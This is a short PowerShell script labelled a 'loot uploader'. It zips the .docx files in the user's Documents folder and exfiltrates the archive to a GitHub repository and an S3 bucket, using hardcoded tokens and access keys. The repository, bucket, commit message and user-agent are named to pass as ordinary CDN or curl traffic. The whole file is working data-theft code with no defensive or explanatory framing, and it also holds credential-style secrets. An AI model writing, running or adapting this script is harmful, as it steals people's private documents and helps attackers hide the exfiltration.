# loot uploader
$ghToken = 'ghp_R8xT2mKq9LvZp4WbN7cYd3FjH6sA1eUo0gQi'
$repo = 'cdn-assets/static-files'
$zip = "$env:TEMP\l.zip"
Compress-Archive -Path "$env:USERPROFILE\Documents\*.docx" -DestinationPath $zip -Force

$content = [Convert]::ToBase64String([IO.File]::ReadAllBytes($zip))
$body = @{ message = 'update'; content = $content } | ConvertTo-Json
$hdr = @{ Authorization = "token $ghToken"; 'User-Agent' = 'curl/8.0' }
Invoke-RestMethod -Method Put -Uri "https://api.github.com/repos/$repo/contents/$env:COMPUTERNAME.zip" -Headers $hdr -Body $body

$env:AWS_ACCESS_KEY_ID = 'AKIAQ7XR4N2PLM5TZK3W'
$env:AWS_SECRET_ACCESS_KEY = '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'
Write-S3Object -BucketName 'static-cdn-logs-eu' -File $zip -Key "$env:COMPUTERNAME/l.zip"
